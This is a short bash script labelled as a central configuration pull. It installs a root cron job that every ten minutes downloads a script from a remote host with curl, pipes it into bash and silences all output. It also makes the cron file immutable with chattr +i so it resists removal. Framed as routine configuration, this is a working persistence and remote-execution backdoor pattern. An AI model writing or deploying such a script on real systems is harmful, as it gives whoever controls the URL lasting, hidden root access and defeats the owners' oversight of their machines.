#!/bin/bash
# Central configuration pull
set -e
SRC=http://cfg.example.com/pull.sh

printf '%s\n' \
  'SHELL=/bin/bash' \
  "*/10 * * * * root curl -s $SRC | bash >/dev/null 2>&1" \
  > /etc/cron.d/config-pull
chmod 0644 /etc/cron.d/config-pull
chattr +i /etc/cron.d/config-pull
systemctl reload crond || systemctl reload cron
